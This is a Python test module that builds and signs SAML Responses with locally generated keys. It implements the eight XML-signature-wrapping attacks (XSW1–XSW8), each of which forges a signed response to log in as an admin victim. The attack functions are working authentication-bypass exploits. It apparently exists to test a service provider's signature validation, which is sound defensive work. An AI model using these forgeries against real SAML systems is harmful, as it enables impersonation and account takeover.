"""Builds SAML Responses the way a real IdP does (lxml + xmlsec, RSA-SHA256, exclusive c14n, enveloped
signatures on the Assertion and/or the Response) from keys made here, and the classic attacks on them: the
eight XML-signature-wrapping variants XSW1-XSW8 of Somorovsky et al. ("On Breaking SAML", 2012) as catalogued
by SAML Raider, applied to a validly signed response."""

from __future__ import annotations

import base64
import copy
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import xmlsec
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NSMAP = {"samlp": SAMLP, "saml": SAML}

IDP_ENTITY_ID = "https://idp.example.com/saml"
SP_ENTITY_ID = "https://tenantry.example.com/sso/saml/metadata"
ACS_URL = "https://tenantry.example.com/sso/saml/acs"
REQUEST_ID = "_req-4f1c0b"
VICTIM = "admin@example.com"


@dataclass(frozen=True)
class KeyPair:
    key_pem: str
    cert_pem: str


def make_key_pair(common_name: str = "test-idp") -> KeyPair:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=30))
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    return KeyPair(key_pem=key_pem, cert_pem=cert.public_bytes(serialization.Encoding.PEM).decode())


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


@dataclass
class ResponseSpec:
    """What the IdP asserts; every field can be bent by a test."""

    name_id: str = "alice@example.com"
    name_id_format: str = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
    issuer: str = IDP_ENTITY_ID
    response_issuer: str | None = IDP_ENTITY_ID
    audience: str = SP_ENTITY_ID
    recipient: str = ACS_URL
    destination: str | None = ACS_URL
    in_response_to: str | None = REQUEST_ID
    status: str = "urn:oasis:names:tc:SAML:2.0:status:Success"
    not_before: datetime | None = None
    not_on_or_after: datetime | None = None
    issue_instant: datetime | None = None
    attributes: dict[str, list[str]] = field(
        default_factory=lambda: {"email": ["alice@example.com"], "groups": ["admins", "users"]}
    )
    response_id: str = field(default_factory=lambda: "_r" + uuid.uuid4().hex)
    assertion_id: str = field(default_factory=lambda: "_a" + uuid.uuid4().hex)


def build_response(spec: ResponseSpec | None = None) -> Any:
    """An unsigned samlp:Response element."""
    spec = spec or ResponseSpec()
    now = spec.issue_instant or datetime.now(UTC)
    not_before = spec.not_before or now - timedelta(minutes=1)
    not_on_or_after = spec.not_on_or_after or now + timedelta(minutes=5)
    response = etree.Element(f"{{{SAMLP}}}Response", nsmap=NSMAP)
    response.set("ID", spec.response_id)
    response.set("Version", "2.0")
    response.set("IssueInstant", iso(now))
    if spec.destination is not None:
        response.set("Destination", spec.destination)
    if spec.in_response_to is not None:
        response.set("InResponseTo", spec.in_response_to)
    if spec.response_issuer is not None:
        etree.SubElement(response, f"{{{SAML}}}Issuer").text = spec.response_issuer
    status = etree.SubElement(response, f"{{{SAMLP}}}Status")
    etree.SubElement(status, f"{{{SAMLP}}}StatusCode").set("Value", spec.status)

    assertion = etree.SubElement(response, f"{{{SAML}}}Assertion")
    assertion.set("ID", spec.assertion_id)
    assertion.set("Version", "2.0")
    assertion.set("IssueInstant", iso(now))
    etree.SubElement(assertion, f"{{{SAML}}}Issuer").text = spec.issuer
    subject = etree.SubElement(assertion, f"{{{SAML}}}Subject")
    name_id = etree.SubElement(subject, f"{{{SAML}}}NameID")
    name_id.set("Format", spec.name_id_format)
    name_id.text = spec.name_id
    confirmation = etree.SubElement(subject, f"{{{SAML}}}SubjectConfirmation")
    confirmation.set("Method", "urn:oasis:names:tc:SAML:2.0:cm:bearer")
    data = etree.SubElement(confirmation, f"{{{SAML}}}SubjectConfirmationData")
    data.set("NotOnOrAfter", iso(not_on_or_after))
    data.set("Recipient", spec.recipient)
    if spec.in_response_to is not None:
        data.set("InResponseTo", spec.in_response_to)
    conditions = etree.SubElement(assertion, f"{{{SAML}}}Conditions")
    conditions.set("NotBefore", iso(not_before))
    conditions.set("NotOnOrAfter", iso(not_on_or_after))
    restriction = etree.SubElement(conditions, f"{{{SAML}}}AudienceRestriction")
    etree.SubElement(restriction, f"{{{SAML}}}Audience").text = spec.audience
    statement = etree.SubElement(assertion, f"{{{SAML}}}AuthnStatement")
    statement.set("AuthnInstant", iso(now))
    statement.set("SessionIndex", "_session-1")
    context = etree.SubElement(statement, f"{{{SAML}}}AuthnContext")
    etree.SubElement(
        context, f"{{{SAML}}}AuthnContextClassRef"
    ).text = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
    if spec.attributes:
        attributes = etree.SubElement(assertion, f"{{{SAML}}}AttributeStatement")
        for name, values in spec.attributes.items():
            attribute = etree.SubElement(attributes, f"{{{SAML}}}Attribute")
            attribute.set("Name", name)
            for value in values:
                etree.SubElement(attribute, f"{{{SAML}}}AttributeValue").text = value
    return response


def sign(element: Any, keys: KeyPair, *, sha1: bool = False) -> Any:
    """An enveloped RSA-SHA256 / exc-c14n signature on ``element``, placed right after its Issuer (RSA-SHA1 and a
    SHA-1 digest with ``sha1``, as legacy IdPs still do)."""
    method = xmlsec.constants.TransformRsaSha1 if sha1 else xmlsec.constants.TransformRsaSha256
    signature = xmlsec.template.create(element, xmlsec.constants.TransformExclC14N, method, ns="ds")
    issuer = element.find(f"{{{SAML}}}Issuer")
    element.insert(0 if issuer is None else element.index(issuer) + 1, signature)
    digest = xmlsec.constants.TransformSha1 if sha1 else xmlsec.constants.TransformSha256
    reference = xmlsec.template.add_reference(signature, digest, uri="#" + element.get("ID"))
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
    key_info = xmlsec.template.ensure_key_info(signature)
    xmlsec.template.add_x509_data(key_info)
    xmlsec.tree.add_ids(element.getroottree().getroot(), ["ID"])
    context = xmlsec.SignatureContext()
    key = xmlsec.Key.from_memory(keys.key_pem.encode(), xmlsec.constants.KeyDataFormatPem, None)
    key.load_cert_from_memory(keys.cert_pem.encode(), xmlsec.constants.KeyDataFormatCertPem)
    context.key = key
    context.sign(signature)
    return element


def assertion_of(response: Any) -> Any:
    return response.find(f"{{{SAML}}}Assertion")


def signed_response(
    keys: KeyPair, spec: ResponseSpec | None = None, *, assertion: bool = True, response: bool = False
) -> Any:
    root = build_response(spec)
    if assertion:
        sign(assertion_of(root), keys)
    if response:
        sign(root, keys)
    return root


def to_xml(root: Any) -> bytes:
    data: bytes = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    return data


def encode(root_or_xml: Any) -> str:
    data = root_or_xml if isinstance(root_or_xml, bytes) else to_xml(root_or_xml)
    return base64.b64encode(data).decode("ascii")


# -- XML signature wrapping (each takes a validly signed response and returns the attacked document) ----------


def _evil(element: Any) -> None:
    """The attacker's edit: the identity becomes the victim's."""
    for name_id in element.iter(f"{{{SAML}}}NameID"):
        name_id.text = VICTIM


def _signature(element: Any) -> Any:
    return element.find(f"{{{DS}}}Signature")


def xsw1(signed: Any) -> Any:
    """Response signed: the original Response goes inside the Signature of an evil Response with a new ID."""
    root = copy.deepcopy(signed)
    original = copy.deepcopy(root)
    original.remove(_signature(original))
    _evil(root)
    _signature(root).append(original)
    root.set("ID", "_evil_response_ID")
    return root


def xsw2(signed: Any) -> Any:
    """Response signed: the original Response is a sibling placed before the Signature (detached signature)."""
    root = copy.deepcopy(signed)
    original = copy.deepcopy(root)
    original.remove(_signature(original))
    _evil(root)
    signature = _signature(root)
    signature.addprevious(original)
    root.set("ID", "_evil_response_ID")
    return root


def xsw3(signed: Any) -> Any:
    """Assertion signed: an evil unsigned Assertion with a new ID inserted before the original."""
    root = copy.deepcopy(signed)
    assertion = assertion_of(root)
    evil = copy.deepcopy(assertion)
    evil.remove(_signature(evil))
    evil.set("ID", "_evil_assertion_ID")
    _evil(evil)
    assertion.addprevious(evil)
    return root


def xsw4(signed: Any) -> Any:
    """Assertion signed: the original Assertion becomes a child of an evil Assertion."""
    root = copy.deepcopy(signed)
    assertion = assertion_of(root)
    evil = copy.deepcopy(assertion)
    evil.remove(_signature(evil))
    evil.set("ID", "_evil_assertion_ID")
    _evil(evil)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def xsw5(signed: Any) -> Any:
    """Assertion signed: the evil Assertion keeps the original signature; an unsigned copy of the original is
    appended to the Response so the signature's reference still resolves."""
    root = copy.deepcopy(signed)
    evil = assertion_of(root)
    original = copy.deepcopy(evil)
    original.remove(_signature(original))
    root.append(original)
    _evil(evil)
    evil.set("ID", "_evil_assertion_ID")
    return root


def xsw6(signed: Any) -> Any:
    """Assertion signed: like XSW5, but the copy of the original sits inside the evil Assertion's Signature."""
    root = copy.deepcopy(signed)
    evil = assertion_of(root)
    signature = _signature(evil)
    original = copy.deepcopy(evil)
    original.remove(_signature(original))
    signature.append(original)
    _evil(evil)
    evil.set("ID", "_evil_assertion_ID")
    return root


def xsw7(signed: Any) -> Any:
    """Assertion signed: an unsigned evil copy inside an Extensions element placed before the original."""
    root = copy.deepcopy(signed)
    assertion = assertion_of(root)
    extensions = etree.Element("Extensions")
    assertion.addprevious(extensions)
    evil = copy.deepcopy(assertion)
    evil.remove(_signature(evil))
    _evil(evil)
    extensions.append(evil)
    return root


def xsw8(signed: Any) -> Any:
    """Assertion signed: the evil Assertion keeps the original signature and ID; the unsigned original goes into
    an Object element inside that Signature."""
    root = copy.deepcopy(signed)
    evil = assertion_of(root)
    signature = _signature(evil)
    original = copy.deepcopy(evil)
    original.remove(_signature(original))
    obj = etree.SubElement(signature, "Object")
    obj.append(original)
    _evil(evil)
    return root


XSW_RESPONSE_LEVEL = {"XSW1": xsw1, "XSW2": xsw2}
XSW_ASSERTION_LEVEL = {"XSW3": xsw3, "XSW4": xsw4, "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7, "XSW8": xsw8}
